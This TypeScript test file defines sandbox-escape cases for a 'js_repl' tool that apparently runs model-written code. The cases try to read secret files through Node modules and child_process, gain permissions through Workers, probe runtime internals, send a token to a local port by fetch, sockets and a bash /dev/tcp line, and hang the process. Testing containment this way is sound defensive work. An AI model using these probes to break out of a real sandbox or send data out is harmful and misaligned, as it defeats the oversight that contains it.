// js_repl: model text as code of our own engine, which must touch nothing.
import { wentOn } from "./judge.ts";
import type { AttackCase } from "./attack_case.ts";
import { js } from "./steps.ts";

const about = { row: 7, layer: "landlock" } as const;
const reachedIf = (expression: string) =>
  `try { const it = await (${expression}); console.log("REACHED", String(it).slice(0, 20)); } catch (e) { console.error(e.name, e.message); }`;

export const REPL_CASES: readonly AttackCase[] = [
  {
    ...about,
    name: "js_repl imports a file outside, as a module, as data",
    prepare: ({ outside, canary }) => {
      Deno.writeTextFileSync(`${outside}/module.js`, `export default "${canary}";`);
      Deno.writeTextFileSync(`${outside}/data.json`, `"${canary}"`);
    },
    attack: ({ outside }) => [
      js(
        ["module.js", "data.json", "secret.txt"].map((name) =>
          `for (const type of ["json", "text", "bytes", undefined]) { try { console.log((await import("file://${outside}/${name}", type && { with: { type } })).default); } catch (e) { console.error(e.message); } }`
        ).join("\n"),
        `cat ${outside}/module.js`,
      ),
    ],
  },
  {
    ...about,
    name: "js_repl imports a file of the workspace",
    prepare: ({ folder }) =>
      Deno.writeTextFileSync(`${folder}/module.js`, `export default "REACHED";`),
    attack: ({ folder }) => [
      js(
        `console.log((await import("file://${folder}/module.js")).default)`,
        `cat ${folder}/module.js`,
      ),
    ],
  },
  {
    ...about,
    name: "js_repl reads by node's modules",
    attack: ({ secret }) => [
      js(
        `for (const get of [
  async () => (await import("node:fs")).readFileSync("${secret}", "utf8"),
  async () => await (await import("node:fs/promises")).readFile("${secret}", "utf8"),
  async () => process.getBuiltinModule("fs").readFileSync("${secret}", "utf8"),
  async () => (await import("node:module")).createRequire("file:///x.js")("${secret}"),
  async () => (await import("node:child_process")).execFileSync("/bin/cat", ["${secret}"], { encoding: "utf8" }),
  async () => { const { DatabaseSync } = await import("node:sqlite"); const d = new DatabaseSync(":memory:"); d.exec("attach '${secret}' as s"); return JSON.stringify(d.prepare("select * from s.sqlite_master").all()); },
]) { try { console.log(await get()); } catch (e) { console.error(e.name, e.message); } }`,
        `cat ${secret}`,
      ),
    ],
  },
  {
    ...about,
    name: "js_repl gets the runtime back by a thread of its own",
    attack: ({ secret }) => [
      js(
        `const code = \`try { postMessage(Deno.readTextFileSync("${secret}")) } catch (e) { postMessage(e.name + e.message) }\`;
const later = setTimeout; const done = (worker) => new Promise((resolve) => { worker.onmessage = (e) => resolve(e.data); worker.onerror = (e) => { e.preventDefault(); resolve(e.message); }; later(resolve, 1000); });
for (const permissions of ["inherit", { read: true }, "none"]) {
  try { console.log(await done(new Worker("data:text/javascript," + encodeURIComponent(code), { type: "module", deno: { permissions } }))); } catch (e) { console.error(e.name, e.message); }
}`,
        `cat ${secret}`,
      ),
    ],
  },
  {
    ...about,
    row: 12,
    layer: "seccomp",
    name: "js_repl uses the network",
    attack: ({ shared: { tcpPort, udpPort }, token }) => [
      js(
        `const later = setTimeout; for (const go of [
  () => fetch("http://127.0.0.1:${tcpPort}/${token}"),
  () => new Promise((resolve, reject) => { const s = new WebSocket("ws://127.0.0.1:${tcpPort}/${token}"); s.onopen = resolve; s.onerror = reject; }),
  () => import("http://127.0.0.1:${tcpPort}/${token}.js"),
  async () => { const { connect } = await import("node:net"); return new Promise((resolve, reject) => { const s = connect(${tcpPort}, "127.0.0.1", () => s.write("${token}", resolve)); s.on("error", reject); }); },
  async () => { const { createSocket } = await import("node:dgram"); return new Promise((resolve) => createSocket("udp4").send("${token}", ${udpPort}, "127.0.0.1", resolve)); },
  () => new EventSource("http://127.0.0.1:${tcpPort}/${token}"),
]) { try { await Promise.race([go(), new Promise((r) => later(r, 300))]); } catch (e) { console.error(e.name, e.message); } }`,
        `exec 3<>/dev/tcp/127.0.0.1/${tcpPort}; echo ${token} >&3; read -t 5 -u 3`,
      ),
    ],
  },
  {
    ...about,
    name: "js_repl finds the runtime in its own objects",
    attack: () => [
      js(
        `const found = [globalThis.Deno, globalThis.__bootstrap, globalThis[Symbol.for("Deno.internal")], globalThis.Deno?.core].filter(Boolean);
console.log(found.length > 0 ? "REACHED" : "nothing");
${
          reachedIf(
            `new Promise((resolve, reject) => { Error.prepareStackTrace = (_, frames) => { const f = frames.map((x) => x.getFunction?.()).filter(Boolean); f.length ? resolve(f) : reject(new Error("no frames")); return ""; }; void new Error("x").stack; })`,
          )
        }`,
        "echo REACHED",
      ),
    ],
  },
  {
    ...about,
    row: 20,
    name: "js_repl does not end",
    attack: () => [
      { tool: "js_repl", args: { code: "for (;;) {}", timeout_ms: 700 }, control: "sleep 5.2" },
    ],
    leaked: wentOn,
  },
];
